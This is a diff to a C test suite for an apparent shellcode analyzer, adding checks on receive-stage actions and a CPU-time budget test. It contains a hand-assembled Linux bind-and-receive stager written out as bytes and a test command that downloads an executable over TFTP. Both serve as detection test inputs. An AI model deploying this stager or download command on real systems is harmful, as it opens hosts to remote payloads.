@@ -4,6 +4,10 @@
  * MANIFEST gives or found by trying every offset, yields the action
  * libemu's sctest saw; robustness inputs and random bytes yield none.
  */
+#include <sys/wait.h>
+
+#include <sched.h>
+#include <signal.h>
 #include <stdarg.h>
 #include <stddef.h>
 #include <setjmp.h>
@@ -12,6 +16,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <time.h>
+#include <unistd.h>
 #include <cmocka.h>
 
 #include "corpus.h"
@@ -183,9 +188,14 @@ test_more_binds(void **state)
 	    0x12, 6318);
 }
 
+/*
+ * A receive_file action: mode, host, port, and the dialogue (Nepenthes'
+ * proto name, the key stage 1 hands stage 2, a 4-byte length prefix).
+ */
 static void
 expect_receive(const char *name, long off, const char *mode,
-    const char *host, uint16_t port)
+    const char *host, uint16_t port, const char *proto, const char *key,
+    int prefix)
 {
 	struct sc_result	 res;
 	const struct sc_action	*a;
@@ -198,6 +208,10 @@ expect_receive(const char *name, long off, const char *mode,
 	assert_string_equal(a->mode, mode);
 	assert_string_equal(a->host, host);
 	assert_int_equal(a->port, port);
+	assert_string_equal(a->proto, proto);
+	assert_string_equal(a->key, key);
+	assert_int_equal(a->length_prefix, prefix);
+	assert_int_equal(a->evidence, SC_EV_EMULATED);
 	assert_null(find(&res, SC_BIND_SHELL));
 	assert_null(find(&res, SC_CONNECT_SHELL));
 }
@@ -207,25 +221,74 @@ static void
 test_receive_bind_11(void **state)
 {
 	(void)state;
-	expect_receive("libemu_11_amberg.bin", 0x10, "bind", "", 44028);
+	expect_receive("libemu_11_amberg.bin", 0x10, "bind", "", 44028,
+	    "creceive", "", 0);
 }
 
-/* lindau linkbot: connect back, recv the stage. */
+/*
+ * lindau linkbot: connect back, recv the stage and run it with the key
+ * in edi (mov edi, 0x8506acac; jmp ebp): the key is its bytes in memory
+ * order, what stage 2 sends back.
+ */
 static void
 test_receive_connect_12(void **state)
 {
 	(void)state;
 	expect_receive("libemu_12_lindau-linkbot-connectback-version.bin", -1,
-	    "connect", "62.47.217.254", 15385);
+	    "connect", "62.47.217.254", 15385, "link", "acac0685", 0);
 }
 
-/* halle csend: msvcrt by GetProcAddress, connect, recv into a file. */
+/*
+ * halle csend: msvcrt by GetProcAddress, connect, recv 4 bytes (the
+ * file's length), then the file.
+ */
 static void
 test_receive_connect_14(void **state)
 {
 	(void)state;
 	expect_receive("libemu_14_halle-filetransferr-via-csend.bin", 0x12,
-	    "connect", "70.228.36.118", 11805);
+	    "connect", "70.228.36.118", 11805, "csend", "", 4);
+}
+
+/*
+ * A blink stager (Linux, hand-assembled): bind 38963, listen, accept,
+ * recv 0x200 bytes into the stack, mov edi, 0xedfe0dd0, jmp ebp: a
+ * blink whose key is d00dfeed (edi's bytes in memory order).
+ */
+static const uint8_t	test_blink[] = {
+	0x31, 0xdb, 0xf7, 0xe3, 0x53, 0x43, 0x53, 0x6a, 0x02,	/* socket */
+	0x89, 0xe1, 0xb0, 0x66, 0xcd, 0x80, 0x89, 0xc6,
+	0x52, 0x66, 0x68, 0x98, 0x33, 0x66, 0x6a, 0x02,		/* bind */
+	0x89, 0xe1, 0x6a, 0x10, 0x51, 0x56, 0x89, 0xe1,
+	0x43, 0x6a, 0x66, 0x58, 0xcd, 0x80,
+	0x6a, 0x01, 0x56, 0x89, 0xe1, 0xb3, 0x04,		/* listen */
+	0x6a, 0x66, 0x58, 0xcd, 0x80,
+	0x52, 0x52, 0x56, 0x89, 0xe1, 0xb3, 0x05,		/* accept */
+	0x6a, 0x66, 0x58, 0xcd, 0x80,
+	0x81, 0xec, 0x00, 0x02, 0x00, 0x00, 0x89, 0xe5,		/* recv */
+	0x52, 0x68, 0x00, 0x02, 0x00, 0x00, 0x55, 0x50,
+	0x89, 0xe1, 0xb3, 0x0a, 0x6a, 0x66, 0x58, 0xcd, 0x80,
+	0xbf, 0xd0, 0x0d, 0xfe, 0xed,				/* the key */
+	0xff, 0xe5						/* jmp ebp */
+};
+
+static void
+test_receive_blink(void **state)
+{
+	struct sc_result	 res;
+	const struct sc_action	*a;
+
+	(void)state;
+	assert_int_equal(sc_analyze(test_blink, sizeof(test_blink), NULL,
+	    NULL, &res), 0);
+	assert_int_equal(res.nactions, 1);
+	assert_non_null(a = find(&res, SC_RECEIVE_FILE));
+	assert_string_equal(a->mode, "bind");
+	assert_int_equal(a->port, 38963);
+	assert_string_equal(a->proto, "blink");
+	assert_string_equal(a->key, "d00dfeed");
+	assert_int_equal(a->length_prefix, 0);
+	assert_int_equal(a->evidence, SC_EV_EMULATED);
 }
 
 /*
@@ -351,7 +414,8 @@ test_hash_resolution(void **state)
 static void
 test_analyze_emulated_command(void **state)
 {
-	static const char	 cmd[] = "cmd /c tftp -i 203.0.113.9 get b.exe";
+	static const char	 cmd[] =
+	    "cmd /c tftp -i 203.0.113.9 get b.exe";
 	static const char	 url[] = "tftp://203.0.113.9/b.exe";
 	uint8_t			 code[256];
 	struct sc_result	 res;
@@ -576,7 +640,22 @@ elapsed_ms(const struct timespec *t0)
 	    (double)(t1.tv_nsec - t0->tv_nsec) / 1e6;
 }
 
-/* `jmp $` with a huge step budget: the time budget ends it. */
+static double
+cpu_ms(void)
+{
+	struct timespec	t;
+
+	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &t);
+	return (double)t.tv_sec * 1e3 + (double)t.tv_nsec / 1e6;
+}
+
+/*
+ * `jmp $` with a huge step budget: the time budget ends it, and that
+ * budget is CPU time, so that a busy machine does not cut an emulation
+ * short (and leave a real action as a mere signature in clear).  Run
+ * here on one CPU shared with a child that spins: the emulation still
+ * gets its 50 ms of CPU, over about twice as long.
+ */
 static void
 test_time_budget(void **state)
 {
@@ -584,16 +663,38 @@ test_time_budget(void **state)
 	struct sc_result	res;
 	struct sc_limits	l;
 	struct timespec		t0;
+	cpu_set_t		cpus, old;
 	long			offs[] = { 0, 1 };
+	double			c0, cpu, wall;
+	pid_t			spin;
+	int			cpu0;
 
 	(void)state;
 	result_init(&res);
 	l.max_steps = UINT64_MAX / 2;
 	l.max_usec = 50000;
 	l.max_candidates = 2;
+	/* The first CPU this test may run on, for it and the child. */
+	assert_int_equal(sched_getaffinity(0, sizeof(old), &old), 0);
+	for (cpu0 = 0; cpu0 < CPU_SETSIZE && !CPU_ISSET(cpu0, &old); cpu0++)
+		;
+	CPU_ZERO(&cpus);
+	CPU_SET(cpu0, &cpus);
+	assert_int_equal(sched_setaffinity(0, sizeof(cpus), &cpus), 0);
+	if ((spin = fork()) == 0)
+		for (;;)
+			;
+	assert_true(spin > 0);
 	clock_gettime(CLOCK_MONOTONIC, &t0);
+	c0 = cpu_ms();
 	assert_int_equal(sc_emu_run(code, sizeof(code), offs, 2, &l, &res), 0);
-	assert_true(elapsed_ms(&t0) < 500.0);
+	cpu = cpu_ms() - c0;
+	wall = elapsed_ms(&t0);
+	kill(spin, SIGKILL);
+	waitpid(spin, NULL, 0);
+	sched_setaffinity(0, sizeof(old), &old);
+	print_message("time budget: %.1f ms of CPU in %.1f ms\n", cpu, wall);
+	assert_true(cpu >= 50.0 && cpu < 500.0);
 	assert_int_equal(res.nactions, 0);
 }
 
@@ -688,6 +789,7 @@ main(void)
 		cmocka_unit_test(test_receive_bind_11),
 		cmocka_unit_test(test_receive_connect_12),
 		cmocka_unit_test(test_receive_connect_14),
+		cmocka_unit_test(test_receive_blink),
 		cmocka_unit_test(test_fnstenv_getpc),
 		cmocka_unit_test(test_hash_resolution),
 		cmocka_unit_test(test_analyze_emulated_command),
